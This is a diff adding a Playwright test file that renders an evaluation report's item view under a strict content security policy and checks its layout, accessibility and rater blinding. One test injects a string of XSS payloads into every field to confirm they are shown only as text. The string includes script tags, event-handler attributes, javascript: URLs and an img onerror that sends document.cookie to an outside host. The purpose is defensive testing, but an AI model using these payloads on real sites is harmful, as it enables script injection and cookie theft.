@@ -1,0 +1,382 @@
+"""The item view in a real browser, under the content security policy of the report."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+from collections.abc import Callable
+from importlib import resources
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from apbjudge.protocols.table import protocol_of
+from apbjudge.records import Row
+from apbjudge.reports.page.items import case_view, prediction_view
+
+from .conftest import PHONE
+
+Show = Callable[..., Any]
+
+
+def asset(name: str) -> str:
+    return resources.files("apbjudge.reports").joinpath("web", name).read_text(encoding="utf-8")
+
+
+def allowed(text: str) -> str:
+    digest = base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()
+    return f"'sha256-{digest}'"
+
+
+@pytest.fixture
+def show(page: Any, tmp_path: Path) -> Show:
+    """Shows an item in a page that allows nothing but our own script and style."""
+    script, style = asset("item.js"), asset("base.css") + asset("item.css")
+    rules = f"default-src 'none'; script-src {allowed(script)}; style-src {allowed(style)}"
+    (tmp_path / "page.html").write_text(
+        '<!doctype html><html lang="en"><meta charset="utf-8"><title>One item</title>'
+        '<meta name="viewport" content="width=device-width">'
+        f'<meta http-equiv="Content-Security-Policy" content="{rules}; img-src data:">'
+        f"<style>{style}</style><main><h1>One item</h1></main><script>{script}</script>",
+        encoding="utf-8",
+    )
+    page.goto((tmp_path / "page.html").as_uri())
+
+    def shown(data: dict[str, Any], options: dict[str, Any] | None = None) -> Any:
+        page.evaluate(
+            """([data, options]) => {
+                document.querySelector(".item-view")?.remove();
+                document.querySelector("main").append(apb.itemView(data, options));
+            }""",
+            [data, options or {}],
+        )
+        return page.locator(".item-view")
+
+    return shown
+
+
+def open_all(page: Any) -> None:
+    """Opens every disclosure, those inside others as well."""
+    page.evaluate(
+        """async () => {
+            const closed = () => [...document.querySelectorAll("details:not([open])")];
+            while (closed().length) {
+                for (const made of closed()) made.open = true;
+                await new Promise((done) => setTimeout(done));
+            }
+        }"""
+    )
+
+
+def example(name: str, number: int) -> dict[str, Any]:
+    """Line ``number`` of an example file, as the page gets it."""
+    line = Path("examples", name).read_text(encoding="utf-8").splitlines()[number - 1]
+    item = Row(json.loads(line), number).to_item()
+    protocol = protocol_of(item)
+    found = protocol.find(item, protocol.rubric_for(item))
+    about = {"id": item.item_id, "model": item.tested_model, "protocol": protocol.name}
+    return {"case": case_view(item), "prediction": prediction_view(item, found), "item": about}
+
+
+def verdict(**values: Any) -> dict[str, Any]:
+    flags = {f"E{n}": n == 5 for n in range(1, 7)}
+    return {"judge": "j", "kind": "verdict", "is_correct": False, "errors": flags, **values}
+
+
+# What is shown -----------------------------------------------------------------------------------
+
+
+def test_chains_side_by_side(show: Show, page: Any, axe: Callable[[Any], None]):
+    view = show(
+        {
+            **example("holistic.jsonl", 2),
+            "judgements": [
+                verdict(grade=0.8, reasoning="because", raw="{}", inconsistent=True),
+                {"judge": "k", "kind": "unscored", "reason": "timeout", "detail": "after 60 s"},
+            ],
+            "human": {"is_correct": True, "grade": 1.0, "errors": {"E5": False}, "ties": ["E6"]},
+            "labels": [{"rater": "r", "is_correct": True, "note": "fine"}, {"rater": "s"}],
+        }
+    )
+    kinds = view.locator(".chain > .row > .kind").all_inner_texts()
+    assert kinds == [
+        "= same call",
+        *["≠ other arguments"] * 2,
+        "− the prediction has it as 7",
+        *["≠ other arguments"] * 3,
+        "+ the reference has it as 4",
+        "≠ other arguments",
+    ]
+    row = view.locator(".chain > .row.arguments").first
+    ours, theirs = row.locator(".ours").bounding_box(), row.locator(".theirs").bounding_box()
+    assert ours["y"] == theirs["y"]
+    assert ours["x"] + ours["width"] <= theirs["x"]
+    assert row.locator(".only-ours dt").text_content() == "+ only in the prediction: max_price"
+    note = row.locator(".only-ours .note")
+    assert note.inner_text() == ("✕ Proven E5 tool use: search_hotels has no parameter 'max_price'")
+    cells = view.locator(".verdicts tbody tr").filter(has_text="E5").locator("td")
+    assert cells.all_text_contents()[:3] == ["● yes ≠ humans differ", "not scored", "○ no"]
+    split = view.locator(".verdicts tbody tr").filter(has_text="E6").locator("td")
+    assert split.all_text_contents()[2] == "split"
+    assert "k ? not scored" in view.locator(".cards").inner_text()
+    assert "the judge did not answer in time" in view.locator(".cards").inner_text()
+    open_all(page)
+    axe(page)
+
+
+@pytest.mark.parametrize("scheme", ["light", "dark"])
+def test_on_a_phone(
+    scheme: str,
+    show: Show,
+    page: Any,
+    axe: Callable[[Any], None],
+    sideways: Callable[[Any], None],
+):
+    page.set_viewport_size(PHONE)
+    page.emulate_media(color_scheme=scheme)
+    for name, number in (("tool_broken.jsonl", 3), ("efficiency.jsonl", 23)):
+        view = show({**example(name, number), "judgements": [verdict(judge="j" * 200)] * 3})
+        open_all(page)
+        sideways(page)
+    ours, theirs = (view.locator(f".row.arguments .{side}").first for side in ("ours", "theirs"))
+    assert ours.bounding_box()["y"] < theirs.bounding_box()["y"]
+    axe(page)
+
+
+def test_what_a_rater_must_not_see(show: Show):
+    data = {**example("tool_extraneous.jsonl", 6), "judgements": [verdict(reasoning="because")]}
+    hidden = dict.fromkeys(("showJudges", "showModel", "showCondition", "showFindings"), False)
+    seen, blind = show(data).text_content(), show(data, hidden).text_content()
+    for text in ("because", "cress-small", "distractor", "Proven"):
+        assert text in seen
+        assert text not in blind
+
+
+def test_steps_without_a_call_and_cases_without_data(show: Show):
+    view = show(example("step_wise.jsonl", 8))
+    row = view.locator(".chain > .row.missing")
+    assert "step 1 calls no tool" in row.locator(".ours").inner_text()
+    assert "read_file" in row.locator(".theirs").inner_text()
+    found = [{"code": "E6", "certainty": "suspected", "message": "m", "where": "tool_chain[3]"}]
+    alone = show(
+        {"prediction": {"calls": [], "findings": found}, "item": {"id": "i"}, "judgements": [None]}
+    ).inner_text()
+    assert "not at hand" in alone
+    assert "? Suspected E6 hallucination: m (tool_chain[3])" in alone
+    assert "i" in show({}).inner_text()
+
+
+def test_pictures_only_from_here(show: Show, page: Any):
+    dot = "data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"
+    bad = [
+        "https://example.org/a.png",
+        "//example.org/a.png",
+        "javascript:window.__pwned=1",
+        "data:text/html;base64,PGI+",
+        "data:image/svg+xml;base64,PHN2Zz4=",
+        dot.replace("image/gif", "image/gif;x"),
+        7,
+    ]
+    files = [{"type": "image", "path": f"f{i}", "url": url} for i, url in enumerate([dot, *bad])]
+    view = show({"case": {"query": "q", "files": files}, "prediction": {"kind": "plan"}})
+    assert view.locator("img").count() == 1
+    assert view.locator("img").get_attribute("alt") == "image f0"
+    assert view.locator(".files li").count() == len(files)
+
+
+# Hostile texts -----------------------------------------------------------------------------------
+
+HOSTILE = (
+    "<script>window.__pwned=1;alert(1)</script>"
+    "<img src=x onerror=\"window.__pwned=1;fetch('https://example.org/'+document.cookie)\">"
+    "</script><svg onload=window.__pwned=1><style>*{display:none}</style></title></textarea>"
+    "<a href=\"javascript:window.__pwned=1\">x</a>{{7*7}}${window.__pwned=1}{% raw %}<!--"
+    "<iframe srcdoc='<script>parent.__pwned=1</script>'>\u202egnp.exe\u0000\u001b[31m\u200b"
+    "' onmouseover=window.__pwned=1 x='\u0301\u0301\u0301" + "w" * 3000
+)  # fmt: skip
+
+
+class Poison:
+    """Numbers hostile texts, so that each can be found again; ``seen`` says where each went."""
+
+    def __init__(self) -> None:
+        self.places: dict[str, str] = {}
+
+    def text(self, place: str) -> str:
+        number = f"@{len(self.places)}@"
+        self.places[number] = place
+        return number + HOSTILE
+
+    def into(self, value: Any, place: str = "") -> Any:
+        """The value with every string in it replaced, except those that choose how to show."""
+        if isinstance(value, dict):
+            return {
+                key: child if key in CHOOSING else self.into(child, f"{place}.{key}")
+                for key, child in value.items()
+            }
+        if isinstance(value, list):
+            return [self.into(child, place) for child in value]
+        return self.text(place) if isinstance(value, str) else value
+
+
+CHOOSING = ("kind", "certainty", "path", "key", "method")
+NEVER_SHOWN = {
+    ".case.files.url",
+    ".prediction.calls.where",
+    ".prediction.findings.rule",
+    ".prediction.findings.where",  # of those that stand at their place
+}
+
+
+def full() -> dict[str, Any]:
+    """An item with something in every field that the view knows."""
+    call = {"name": "n", "arguments": {"a": "v", "b": {"c": ["d"]}}, "reason": "r", "step": 1}
+    call = {**call, "thought": "t", "unknown": True}
+    found = {"code": "c", "certainty": "proven", "rule": "r", "message": "m", "where": "w"}
+    return {
+        "item": {"id": "i", "model": "m", "protocol": "p"},
+        "case": {
+            "query": "q",
+            "system": "s",
+            "files": [{"type": "t", "url": "u"}],
+            "tools": [
+                {
+                    "name": "n",
+                    "description": "d",
+                    "marks": ["m"],
+                    "cost": 1,
+                    "parameters": {
+                        "properties": {"x": {"type": "t", "description": "d", "enum": ["e"]}}
+                    },
+                },
+                {"name": "n", "parameters": "prose"},
+            ],
+            "trajectory": [
+                {
+                    "role": "r",
+                    "text": "t",
+                    "name": "n",
+                    "calls": [{"name": "n", "arguments": {"x": "y"}}],
+                }
+            ],
+            "reference": {
+                "plan": "p",
+                "calls": [call, call],
+                "idle": [{"step": 9, "thought": "t"}],
+            },
+            "condition": {
+                "unsolvable_type": "u",
+                "broken_tool": "b",
+                "replacement": "r",
+                "extraneous": ["x"],
+            },
+            "groups": {"category": "c"},
+        },
+        "prediction": {
+            "kind": "plan",
+            "plan": "p",
+            "calls": [{**call, "where": "w"}, call],
+            "idle": [{"step": 8, "thought": "t"}],
+            "problems": [{"where": "w", "message": "m"}],
+            "response": "r",
+            "chain": [
+                {"ours": 0, "theirs": 0, "kind": "arguments"},
+                {"ours": None, "theirs": 1, "kind": "missing"},
+                {"ours": 1, "theirs": None, "kind": "extra"},
+            ],
+            "findings": [
+                found,
+                {**found, "call": 0, "path": ""},
+                {**found, "call": 0, "path": "b.c", "key": "b"},
+            ],
+        },
+        "judgements": [
+            verdict(
+                judge="j",
+                category=1,
+                decided_by="d",
+                reasoning="r",
+                raw="w",
+                rubric="r",
+                fingerprint="f",
+                overrides=[{"field": "f", "was": "w", "now": "n", "because": "b"}],
+                doubt={
+                    "method": "samples",
+                    "n": 5,
+                    "shares": {"is_correct": 0.8},
+                    "grades": {"0.8": 1.0},
+                    "entropy": {"is_correct": 0.7},
+                },
+            ),
+            {"judge": "k", "kind": "unscored", "reason": "x", "detail": "d", "raw": "r"},
+        ],
+        "labels": [{"rater": "r", "is_correct": True, "note": "n"}, {"rater": "s", "note": "n"}],
+        "human": {"is_correct": True, "ties": []},
+    }
+
+
+def test_hostile_texts_are_only_texts(show: Show, page: Any, sideways: Callable[[Any], None]):
+    poison = Poison()
+    data = poison.into(full())
+    into = data["prediction"]["calls"][0]["arguments"]
+    into[poison.text("key")] = {poison.text("inner key"): poison.text("value")}
+    data["case"]["tools"][0]["parameters"]["properties"][poison.text("parameter")] = {}
+    data["case"]["groups"][poison.text("group")] = poison.text("group value")
+    data["judgements"][0]["errors"][poison.text("flag")] = True
+    text = show(data, {"codes": {"E5": poison.text("name of a code")}, "level": 3})
+    open_all(page)
+    seen = text.text_content()
+    unseen = {place for number, place in poison.places.items() if f"{number}<script>" not in seen}
+    assert unseen == NEVER_SHOWN
+    assert "\\u{202e}gnp.exe\\u{0}\\u{1b}[31m\\u{200b}" in seen
+    assert "\u202e" not in seen
+    assert page.evaluate("window.__pwned") is None
+    tags = "script, iframe, svg, style, a, [onerror], [onload], [onmouseover], [style], img"
+    assert text.locator(tags).count() == 0
+    sideways(page)
+    page.set_viewport_size(PHONE)
+    sideways(page)
+
+
+def test_values_of_the_wrong_type_become_no_attributes(show: Show, page: Any):
+    """A file of judgements need not be ours: an object may stand where a text should."""
+    wrong = {"onclick": "window.__pwned = 1", "style": "position: fixed", "id": "x", "src": "x"}
+    show({})
+    found = page.evaluate(
+        """async ([data, wrong]) => {
+            const found = { shown: 0, failed: [], marked: [] };
+            const places = [];
+            const walk = (value, path) => {
+                if (typeof value === "string") places.push(path);
+                else if (value && typeof value === "object") {
+                    for (const key of Object.keys(value)) walk(value[key], [...path, key]);
+                }
+            };
+            walk(data, []);
+            for (const path of places) {
+                const copy = structuredClone(data);
+                let at = copy;
+                for (const key of path.slice(0, -1)) at = at[key];
+                at[path.at(-1)] = wrong;
+                try {
+                    const view = apb.itemView(copy, {});
+                    for (const made of view.querySelectorAll("details")) {
+                        made.open = true;
+                        made.dispatchEvent(new Event("toggle"));
+                    }
+                    found.shown += view.textContent.includes("position: fixed");
+                    const bad = view.querySelector("[onclick], [style], #x, [src=x]");
+                    if (bad) found.marked.push(path.join("."));
+                } catch (error) {
+                    found.failed.push(`${path.join(".")}: ${error}`);
+                }
+            }
+            return found;
+        }""",
+        [full(), wrong],
+    )
+    assert found["marked"] == []
+    assert found["failed"] == []
+    assert found["shown"] > 40
